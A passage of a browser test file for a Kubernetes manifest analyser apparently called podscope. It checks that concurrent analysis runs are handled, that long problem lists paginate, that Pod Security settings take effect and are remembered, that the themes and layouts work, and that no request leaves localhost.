    const at = view.state.doc.toString().indexOf("- name: sidecar") + "- name: sidecar".length;
    // Three texts in a row, each asked for before the previous one has come back.
    const runs = [];
    for (const suffix of ["_A", "_B", "_C"]) {
      view.dispatch({ changes: { from: at, to: at + (runs.length ? 2 : 0), insert: suffix } });
      runs.push(page.run());
    }
    await Promise.all(runs);
    const names = page.analysis.diagnostics.map((d) => d.message).join("\n");
    const svg = document.querySelector(".ps-diagram-host").shadowRoot.querySelector(".stage > svg").textContent;
    view.dispatch({ changes: { from: at, to: at + 2, insert: "" } });
    await page.run();
    return {
      shown: page.timings.length - before.runs,
      analysed: page.calls.analyze - before.analyze,
      dropped: page.calls.dropped - before.dropped,
      names: ["_A", "_B", "_C"].filter((s) => names.includes(`sidecar${s}`)),
      drawn: ["_A", "_B", "_C"].filter((s) => svg.includes(`sidecar${s}`)),
    };
  });
  // The first was being analysed when the others came: its result is dropped; the second was
  // replaced while it waited (never analysed); only the third is shown, in the list and the diagram.
  assert.deepEqual(outcome, { shown: 2, analysed: 3, dropped: 1, names: ["_C"], drawn: ["_C"] });
});

test("a long problem list draws its first 200 items and the rest on request; the counts cover all", async () => {
  await setText(page, manifestOfBytes(250_000));
  const total = await evaluate(() => window.podscopePage.analysis.diagnostics.length);
  assert.ok(total > ITEM_LIMIT, `${total} problems`);
  assert.equal(await page.locator(".ps-item").count(), ITEM_LIMIT);
  const shownCount = async () => Number(await page.textContent('.ps-filter[data-severity="warning"] .ps-filter-count')) + Number(await page.textContent('.ps-filter[data-severity="error"] .ps-filter-count')) + Number(await page.textContent('.ps-filter[data-severity="info"] .ps-filter-count'));
  assert.equal(await shownCount(), total);
  await page.click(".ps-more");
  assert.equal(await page.locator(".ps-item").count(), total);
  assert.equal(await page.locator(".ps-more").count(), 0);
});

test("the Pod Security and checks settings reach the analysis, and are remembered", async () => {
  await loadExample("elastic-stack-sidecar");
  const codes = () => evaluate(() => window.podscopePage.analysis.diagnostics.map((d) => d.code));
  assert.ok(!(await codes()).some((c) => c.startsWith("PS4")), "off by default");
  await page.selectOption("#pod-security-select", "restricted");
  await page.waitForFunction(() => window.podscopePage.analysis.diagnostics.some((d) => d.code === "PS4102"));
  assert.match(await page.textContent("#verdict-pill"), /^9 errors/); // four controls on both containers, and the hostPath volume
  assert.match(await page.textContent(".ps-problems-list"), /violates PodSecurity "restricted:latest": allowPrivilegeEscalation != false/);
  // The diagram draws the same findings: its chips follow the settings (one new workspace for them).
  const diagramText = () => evaluate(() => document.querySelector(".ps-diagram-host").shadowRoot.querySelector(".stage > svg").textContent);
  await page.waitForFunction(() => document.querySelector(".ps-diagram-host").shadowRoot.querySelector(".stage > svg").textContent.includes("pss-allow-privilege-escalation"));
  assert.match(await diagramText(), /✖ pss-allow-privilege-escalation/);
  await page.selectOption("#profile-select", "all");
  await page.waitForFunction(() => window.podscopePage.analysis.diagnostics.some((d) => d.code === "PS6009"));
  await page.reload();
  await page.waitForFunction(() => window.podscopePage?.analysis);
  assert.equal(await page.inputValue("#pod-security-select"), "restricted");
  assert.equal(await page.inputValue("#profile-select"), "all");
  await page.selectOption("#pod-security-select", "privileged");
  await page.selectOption("#profile-select", "default");
  await page.waitForFunction(() => !window.podscopePage.analysis.diagnostics.some((d) => d.code.startsWith("PS4") || d.code === "PS6009"));
  await page.waitForFunction(() => !document.querySelector(".ps-diagram-host").shadowRoot.querySelector(".stage > svg").textContent.includes("pss-"));
});

test("light, dark and narrow layouts (screenshots in www/test-results)", async () => {
  await loadExample("elastic-stack-sidecar");
  await page.screenshot({ path: join(SHOTS, "light.png") });
  const dark = await openPage(browser.context, `${server.url}#example=mistakes`, { colorScheme: "dark" });
  records.push(dark.record);
  assert.equal(await dark.page.getAttribute("html", "data-theme"), "dark");
  await dark.page.hover(".cm-lintRange-error >> nth=1");
  await dark.page.locator(".cm-tooltip-lint").waitFor();
  await dark.page.screenshot({ path: join(SHOTS, "dark-diagnostics.png") });
  await dark.page.click("#theme-button"); // system → light
  assert.equal(await dark.page.getAttribute("html", "data-theme"), "light");
  await dark.page.click("#theme-button"); // light → dark
  assert.equal(await dark.page.getAttribute("html", "data-theme"), "dark");
  await dark.page.click("#theme-button"); // dark → system (dark)
  await dark.page.close();
  // The layout switch puts the diagram beside the editor, and is remembered.
  assert.equal(await page.getAttribute("html", "data-layout"), "below");
  await page.click("#layout-button");
  assert.equal(await page.getAttribute("html", "data-layout"), "beside");
  const beside = await evaluate(() => ({ editor: document.querySelector(".pane-editor").getBoundingClientRect().toJSON(), diagram: document.querySelector(".pane-diagram").getBoundingClientRect().toJSON() }));
  assert.ok(beside.diagram.left > beside.editor.right, "side by side");
  await page.screenshot({ path: join(SHOTS, "beside.png") });
  await page.reload();
  await page.waitForFunction(() => window.podscopePage?.analysis);
  assert.equal(await page.getAttribute("html", "data-layout"), "beside");
  await page.click("#layout-button");
  const narrow = await openPage(browser.context, `${server.url}#example=mistakes`, { viewport: { width: 400, height: 860 } });
  records.push(narrow.record);
  const layout = await narrow.page.evaluate(() => ({
    overflow: document.documentElement.scrollWidth - window.innerWidth,
    panes: [...document.querySelectorAll(".pane")].map((p) => Math.round(p.getBoundingClientRect().width)),
  }));
  assert.equal(layout.overflow, 0, "no sideways scrolling");
  assert.ok(layout.panes.every((w) => w >= 360), `panes ${layout.panes}`);
  await narrow.page.screenshot({ path: join(SHOTS, "narrow.png"), fullPage: true });
  await narrow.page.close();
});

test("no request left 127.0.0.1, and no page logged an error", () => {
  const origin = server.url.replace(/\/$/, "");
  const all = records.flatMap((r) => r.requests);
  assert.ok(all.length > 5);
  assert.deepEqual(
    records.flatMap((r) => foreignRequests(r, origin)),
    [],
  );
  assert.deepEqual(
    records.flatMap((r) => r.pageErrors),
    [],
  );
  assert.deepEqual(
    records.flatMap((r) => r.consoleErrors).filter((m) => !/127\.0\.0\.2/.test(m)),
    [],
  );
});
